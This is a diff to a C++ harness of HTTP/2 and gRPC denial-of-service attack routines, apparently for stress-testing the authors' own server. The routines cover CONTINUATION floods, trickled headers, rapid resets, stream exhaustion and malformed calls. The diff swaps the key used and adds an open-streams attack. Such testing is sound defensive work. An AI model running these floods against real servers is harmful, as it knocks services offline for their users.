@@ -31,7 +31,7 @@ void FloodContinuations(const AttackTarget& target, const std::stop_token& stop,
                         AttackTally& tally) {
   constexpr size_t kNumFrames = 4096;  // 64 MiB, if they were taken
   const std::string begin =
-      MakeFrame(FrameType::kHeaders, 0, 1, GrpcHeaderBlock(kGenerate, kGreedyKey));
+      MakeFrame(FrameType::kHeaders, 0, 1, GrpcHeaderBlock(kGenerate, kSecondGreedyKey));
   std::string fields;
   while (fields.size() + 8 < kFrameBytes) fields += HeaderField("a", "bcd");
   const std::string more = MakeFrame(FrameType::kContinuation, 0, 1, fields);
@@ -52,14 +52,14 @@ void TrickleHeaderValues(const AttackTarget& target, const std::stop_token& stop
                          AttackTally& tally) {
   const std::string begin =
       MakeFrame(FrameType::kHeaders, 0, 1,
-                GrpcHeaderBlock(kGenerate, kGreedyKey) + HeaderFieldOfSize("x", 1 << 30));
+                GrpcHeaderBlock(kGenerate, kSecondGreedyKey) + HeaderFieldOfSize("x", 1 << 30));
   const std::string more = MakeFrame(FrameType::kContinuation, 0, 1, std::string(1000, 'x'));
   std::vector<Http2Peer> peers(64);
   while (!stop.stop_requested()) {
     for (Http2Peer& peer : peers) {
       if (peer.open()) {
         peer.Send(more);
-        peer.Listen(tally);
+        peer.Listen(tally, /*answering=*/false);
         continue;
       }
       peer = Http2Peer(target.grpc_address);
@@ -74,7 +74,7 @@ void TrickleHeaderValues(const AttackTarget& target, const std::stop_token& stop
 void HoldHeaders(const AttackTarget& target, const std::stop_token& stop, AttackTally& tally) {
   std::string begin = MakeFrame(
       FrameType::kHeaders, 0, 1,
-      GrpcHeaderBlock(kGenerate, kGreedyKey) + HeaderFieldOfSize("x", size_t{60} << 10));
+      GrpcHeaderBlock(kGenerate, kSecondGreedyKey) + HeaderFieldOfSize("x", size_t{60} << 10));
   for (int i = 0; i < 3; ++i) {
     begin += MakeFrame(FrameType::kContinuation, 0, 1, std::string(kFrameBytes, 'x'));
   }
@@ -83,7 +83,7 @@ void HoldHeaders(const AttackTarget& target, const std::stop_token& stop, Attack
     for (Http2Peer& peer : peers) {
       if (stop.stop_requested()) return;
       if (peer.open()) {
-        peer.Listen(tally);
+        peer.Listen(tally, /*answering=*/false);
         continue;
       }
       peer = Http2Peer(target.grpc_address);
@@ -106,7 +106,7 @@ void ResetRapidly(const AttackTarget& target, const std::stop_token& stop, Attac
   constexpr size_t kCallsPerBurst = 50;
   constexpr uint32_t kMaxStream = 100'000;
   constexpr std::string_view kCancelled("\0\0\0\x08", 4);
-  const std::string header = GrpcHeaderBlock(kGenerate, kGreedyKey);
+  const std::string header = GrpcHeaderBlock(kGenerate, kSecondGreedyKey);
   const std::string request = SmallRequest();
   while (!stop.stop_requested()) {
     Http2Peer peer(target.grpc_address);
@@ -175,12 +175,38 @@ void WatchForever(const AttackTarget& target, const std::stop_token& stop, Attac
   }
 }
 
+// Calls without a key that never come to their message, on many connections.
+void OpenStreamsOnly(const AttackTarget& target, const std::stop_token& stop, AttackTally& tally) {
+  constexpr size_t kCallsPerRound = 100;
+  constexpr uint32_t kMaxStream = 2000;
+  const std::string header = GrpcHeaderBlock("/grpc.health.v1.Health/Check", "");
+  std::vector<Http2Peer> peers(128);
+  std::vector<uint32_t> last_stream(peers.size(), 0);
+  while (!stop.stop_requested()) {
+    for (size_t i = 0; i < peers.size() && !stop.stop_requested(); ++i) {
+      if (!peers[i].open()) {
+        peers[i] = Http2Peer(target.grpc_address);
+        last_stream[i] = 0;
+      }
+      std::string calls;
+      for (size_t n = 0; n < kCallsPerRound && last_stream[i] < kMaxStream; ++n) {
+        last_stream[i] = peers[i].NextStream();
+        calls += MakeFrame(FrameType::kHeaders, kEndHeaders, last_stream[i], header);
+        ++tally.num_attempts;
+      }
+      peers[i].Send(calls);
+      peers[i].Listen(tally);
+      PaceFor(kPause);
+    }
+  }
+}
+
 // Sends the call again and again, at most so many times on a connection, on connections that stay.
 void HoldCalls(const AttackTarget& target, const char* path, std::string_view data, uint8_t flags,
                std::optional<uint32_t> stream_window, const std::stop_token& stop,
                AttackTally& tally) {
   constexpr uint32_t kMaxStream = 512;
-  const std::string header = GrpcHeaderBlock(path, kGreedyKey);
+  const std::string header = GrpcHeaderBlock(path, kSecondGreedyKey);
   std::vector<Http2Peer> peers(16);
   std::vector<uint32_t> last_stream(peers.size(), 0);
   while (!stop.stop_requested()) {
@@ -219,7 +245,7 @@ void LeaveAnswersNoWindow(const AttackTarget& target, const std::stop_token& sto
 void AnnounceLargeMessages(const AttackTarget& target, const std::stop_token& stop,
                            AttackTally& tally) {
   const std::string begun =
-      GrpcPrefix(8'000'000) + std::string(kStreamWindowBytes - kFrameBytes, 'x');
+      GrpcPrefix(1'000'000) + std::string(kStreamWindowBytes - kFrameBytes, 'x');
   HoldCalls(target, kGenerate, begun, 0, {}, stop, tally);
 }
 
@@ -256,7 +282,7 @@ void SendMalformedCalls(const AttackTarget& target, const std::stop_token& stop,
     Http2Peer peer(target.grpc_address);
     uint32_t stream = 0;
     while (peer.open() && stream < kMaxStream && !stop.stop_requested()) {
-      stream = peer.Call(draw(1) == 0 ? kGenerate : kTokenize, kGreedyKey);
+      stream = peer.Call(draw(1) == 0 ? kGenerate : kTokenize, kSecondGreedyKey);
       peer.SendFrame(FrameType::kData, draw(3) == 0 ? 0 : kEndStream, stream, make_body(draw(5)));
       ++tally.num_attempts;
       peer.Listen(tally);
@@ -265,7 +291,7 @@ void SendMalformedCalls(const AttackTarget& target, const std::stop_token& stop,
   }
 }
 
-constexpr std::array<Attacker, 10> kAttackers = {{
+constexpr std::array<Attacker, 11> kAttackers = {{
     {"h2-trickled-header", true, &TrickleHeaderValues},
     {"h2-continuations", true, &FloodContinuations},
     {"h2-held-headers", false, &HoldHeaders},
@@ -273,6 +299,7 @@ constexpr std::array<Attacker, 10> kAttackers = {{
     {"h2-settings", false, &FloodSettings},
     {"h2-pings", false, &FloodPings},
     {"h2-watchers", true, &WatchForever},
+    {"h2-open-streams", false, &OpenStreamsOnly},
     {"h2-no-window", true, &LeaveAnswersNoWindow},
     {"h2-announced", false, &AnnounceLargeMessages},
     {"h2-malformed", false, &SendMalformedCalls},
